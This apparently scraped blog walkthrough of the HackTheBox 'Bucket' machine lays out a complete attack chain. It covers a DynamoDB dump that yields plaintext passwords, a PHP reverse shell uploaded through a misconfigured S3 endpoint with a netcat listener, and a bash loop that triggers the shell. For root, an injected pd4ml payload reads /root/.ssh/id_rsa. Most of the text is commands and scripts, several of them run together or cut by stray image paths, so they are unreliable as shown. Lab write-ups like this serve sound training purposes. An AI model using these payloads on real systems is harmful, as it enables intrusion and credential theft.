Bucket HackTheBox WalkThrough

Bucket Hackthebox walkthrough

This isBucket HackTheBox machine walkthrough. In this writeup, I have demonstrated step-by-step how I rooted Bucket HackTheBox machine. Before starting let us know something about this machine. It is a Linux box with IP address and difficulty Medium assigned by its maker.

First of all connect your PC with HackTheBox VPN and make sure your connectivity with Bucket machine by pinging its IP If all goes correct then it is time to start hacking. As usual, I started by scanning the machine. Scanning gives us an idea how we have to proceed further. Like, it helps in banner grabbing the services running over different ports and sometimes it helps in vulnerability assessment also. I have used nmap for this task and the result is given below:-


$ sudo nmap -sC -sV -oN bucket.nmap

Performing nmap scan during Bucket Hacktheboxwalkthrough

Nmap revealed port number 22 & 80 as open. OpenSSH is running on port 22 and Apache2 webserver is running on port 80. Since apache2 is running on port 80 so we should have some website running over URL After going to this URL found redirection to http://bucket.htb. So, before proceeding for further enumeration we have to add bucket.htb pointing to IP in our hosts file which is located at directory /etc/. Added this record in my hosts file.

Host File After Modification

$ cat /etc/hosts

Host file after modification 1

Ongoing to http://bucket.htb found Bucket Advertising Platform heading and an email address [email protected]. There is no use of email here because we don’t have port 25, 110 and 143 open.

Bucket hackthebox webserver Web page

Tried to check the page-source of this page and got a new subdomain s3.bucket.htb. So before going further added this subdomain to my hosts file.

S3 subdomain exposed via Page source during Bucket Hackthebox walkthroughHost File after Modification

$ cat /etc/hosts

Host file after modification 2

After going to URL http://s3.bucket.htb  found {Status: running}. It appears that something is running. Since it is S3 and also a hint to bucket so it must be AWS (Amazon Web Services) S3 Bucket. Although we come to know that it is using S3 Bucket but we don’t have anything to enumerate on so nothing left accept directory bruteforcing and fuzzing.

Directory Bruteforcing

$ sudo dirsearch -w /usr/share/seclists/Discovery/Web-Content/raft-medium-directories.txt -u http://s3.bucket.htb/ -t 50 -e all | tee raft-medium.out

Performing directory bruteforcing on s3.bucket.htb during Bucket Hackthebox walkthroughDirectory bruteforcing found a folder shell. After going to this folder at URL http://s3.bucket.htb/shell/ found DynamoDB JavaScript Shell. After some googling found a way by which we can enumerate content of table users from this Shell. Check this link at StackOverflow. Simply put the following code into the editor and click on run to execute the code. You will get details of all the items inside the table users.

var dynamodb = new AWS.DynamoDB({region: 'us-east-1',endpoint: "http://s3.bucket.htb"});var tableName = "users";var params = {TableName: tableName,Select: "ALL_ATTRIBUTES"};function doScan(response) {if (response.error) ppJson(response.error); // an error occurredelse {    ppJson(response.data); // successful response    // More data.  Keep calling scan.    if ('LastEvaluatedKey' in response.data) {        response.request.params.ExclusiveStartKey = response.data.LastEvaluatedKey;        dynamodb.scan(response.request.params)            .on('complete', doScan)            .send();}}}console.log("Starting a Scan of the table");dynamodb.scan(params).on('complete', doScan).send();
DynamoDB webshell page

From the above output we have found credentials. Mgmt: Management@#1@#, Cloudadm: Welcome123!, Sysadm: n2vM-<_K_Q:.Aa2

Didn’t know which is right creds for our SSH. Tried to SSH with each of them one by one and even tried to test for all the combinations for SSH using hydra (an online brute forcer) but no any valid SSH credential found. Here our enumerated credentials are useless till now. Anyway, added this credentials to my cherry tree notes, may be it will be useful at some other point in further enumeration.

After some further enumeration found a way by which we can enumerate all the webserver and its files inside the bucket using awscli aws command line tool. To use awscli tool we have to first configure it with a valid AWS credentials. The required credentials are AWS Access Key ID, AWS Secret Access Key, Default region name & Default output format ( to install awscli tool use $sudo aptinstall awscli ). Here, the aws S3 bucket is misconfigured and anyone with any fake credential can access the webserver running on this S3 bucket.

Using fake credential I was also able to access the webserver running in this bucket. Even I could upload a reverse shell onto this webserver and could execute the reverse shell to get connection back to my machine.

To get reverse shell do the following things.

1. Configure the awscli for first use using fake credential. For more info check this article at amazon.

Accessing AWS Bucket Through Aws CLI

$ aws configure


AWS Secret Access Key: je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY

Default region name: us-east-1

Default output format: text

2. List the content of S3 bucket at http://s3.bucket.htb

$ aws s3 ls --endpoint-url http://s3.bucket.htb --no-sign-request

Adserver webserver is running in the bucket at s3.bucket.htb.

3. List the content in the adserver bucket.

$ aws s3 ls--recursive --human-readable s3://adserver --endpoint-url http://s3.bucket.htb/

4. Copy your php-reverse-shell script in the image folder using cp command of aws [don’t forget to change the IP address with your tun0 IP in php-reverse-shell script. The php shell can be found in your Kali OS at directory /usr/share/webshells/php/].

$ aws s3 cp ~/HTB/Boxes/Bucket/shell.php s3://adserver/images/shell.php --endpoint-url http://s3.bucket.htb/

5. List the file of images folder to confirm that our reverse shell is uploaded in the adserver bucket or not.

$ aws s3 ls s3://adserver/images/ --endpoint-url http://s3.bucket.htb/

6. Start netcat listener on your kali machine.

$ nc -nvlp 1234

7. Execute the Shell

$ curl --write-out "%{http_code}\n" --silent --output /dev/null http://s3.bucket.htb/adserver/images/shell.php

There is probably a cron job that delete the shell as soon as we upload it. So I have created a script that do this job very fast. So you can get shell using the below script.

Note: You may require to run this script 2 to 3 times to get shell. Before running this script start your netcat listener on the specified port which you have mentioned in your shell script.

#!/bin/bashexport AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLEexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEYecho "List Files."aws --endpoint-url http://s3.bucket.htb/ s3 ls --recursive --human-readable --summarize s3://adserver## Copying  file from local computer to Bucketaws --endpoint-url http://s3.bucket.htb/ s3 cp shell.php s3://adserver/images/shell.phpecho "Checking if file is uploaded"aws --endpoint-url http://s3.bucket.htb/ s3 ls --recursive --human-readable --summarize s3://adserver# Checking if file exists on web serverecho "Checkingon s3.bucket"curl --write-out "%{http_code}\n" --silent --output /dev/null http://s3.bucket.htb/adserver/images/shell.phpresp=404# Executing the shell multiple time until get response code 200while [[ $resp -eq 404 ]]; do    resp=$(curl --write-out "%{http_code}\n" --silent --output /dev/null  http://bucket.htb/images/shell.php)    echo $resp    sleep 0.1;done

$ bash exploit.sh

Getting user shell during bucket htb walkthrough

We have got usershell as user www-data. Let us upgrade it to fully qualified Linux shell so that we can run more advanced Linux command through it.

Upgrading Shell

$ python3 -c 'import pty;pty.spawn("/bin/bash")'

$ export TERM=xterm

$ ^Z # CTRL+Z To background the shell

$ stty raw -echo

$ fg # Plus two times enter to foreground the shell

$ stty rows 38 columns 116

Upgrading shell to fully qualified qualified Linux shell during bucket hackthebox writeup

We have three credentials enumerated earlier. Let us try to switch to user roy by using them one by one, roy: n2vM-<_K_Q:.Aa2 is the valid creds. So let us switch to roy. This is also a valid SSH credential. In case you lose your shell then use this credential to get back into your SSH shell.

Switching to User Roy

$ su roy

Password: n2vM-<_K_Q:.Aa2

$ whoami

switching to user roy

Capture User Flag

$ cd ~

$ cat user.txt

Capturing user flag in bucket hackthebox walkthrough

Privilege Escalation

To escalate privilege to root we have to first find a privilege escalation vector using which we can escalate privilege. For this I ran linpeas.sh (a post exploitation enumeration script) on Bucket machine. It finds information of all the potential PrivEsc Vectors that can be used to escalate privilege to root.Finding PrivEsc Vector

Linpeas suspected directory /var/www/bucket-app/aws/ have something suspicious that can be used to escalate privilege. Didn’t know exactly why linpeas is suspecting it to be our potential PrivEsc vector. Let us check it manually and confirm whether we would get root or not using this.

Linpeas.sh snippet captured during Bucket Hackthebox walkthrough

index.php file inside directory /var/www/bucket-app/ gave some information about a table alerts and some internal ports 4566 as an endpoint. Since bucket-app is placed inside public folder and apache2 is running there may be chance of internal webserver running on this port. We will confirm it by using $netstat command.

Index.php file inside bucket-app folder

$ netstat -punta revealed some unique ports 4566 & 8000 are listening locally.Netstat results for listening port in bucket htb box

To access the services running over these ports we have to port forward these services to our local machine so that we can access them in our web browser. We have SSH credential of user roy which is roy : n2vM-<_K_Q:.Aa2, so we can Local Port Forward to our local machine to access these services. Let us perform local port forwarding.

Performing Local Port Forwarding

$ ssh -L 8000: -L 4566: [email protected]


$ ss -lnpt # Check for listening port on your local machine

Performing local port forwarding

We have successfully forwarded the port to our Kali machine as can be confirmed by $ss –lnpt command on our Kali machine. Now we can check the services running on port 8000 and 4566 in our web browser by visiting the URL  & .Under construction is shown at the URL

Site under construction page at port 8000Running status is shown at URL . Let us again check the file index.php at /var/www/bucket-app/ for more information.

Index.php file inside bucket-app folder

According to this file it is making POST request after accepting some data inside the table alerts. This table also requests some additional values like Ransomeware, get_alerts() and file in Post Data . We will exploit this feature to getprivate SSH key of root user. For more info about how this page is functioning you can check this article.

So, to exploit this feature and to get root user’s private key I did the following things.

1. Created a new DynamoDB table alerts.

2. Inserted the values as requested along with our payload in the table alerts.

3. At last made POST requests with some additional data as requested.

I have created a script to perform this job. Just copy the script in a file and save it by extension .sh and execute it.

#!/bin/bashecho "Creating New Table"echo "==="# Creating New Table alertsaws dynamodb create-table --table-name alerts --attribute-definitionsAttributeName=title,AttributeType=S --key-schema AttributeName=title,KeyType=HASH --provisioned-throughput ReadCapacityUnits=10,WriteCapacityUnits=5 --endpoint-url"==="echo "Writing Data to alerts and putting in the file attacked.txt"# Writing Data to table alertsaws dynamodb put-item --table-name alerts --item '{"title": {"S": "Ransomware"}, "data": {"S": "<pd4ml:attachment description=\"attached.txt\" icon=\"PushPin\">file:///root/.ssh/id_rsa</pd4ml:attachment>"}}' --endpoint-url "==="echo "Making Post Requests"# Making Post Request with data "action=get_alerts"curl -X POST -d "action=get_alerts" "Done"echo "Go to and downloadthe attachment"

$ bash command.sh

Running the command.sh script to create alerts table and inserting payload inside it during Bucket Hackthebox walkthrough

Let us go to URL to download the attachment by clicking on the pin icon.

Downloading id_rsa script

The attachment is id_rsa key of root user.

$ cat ~/Downloads/id_rsa

id_rsa file of root user captured during Bucket Hackthebox walkthrough

Let us use this SSH private key to login as root to bucket machine.

Getting Root Shell$ cp ~/Downloads/id_rsa .

$ chmod 400 id_rsa

$ ssh -i id_rsa [email protected]

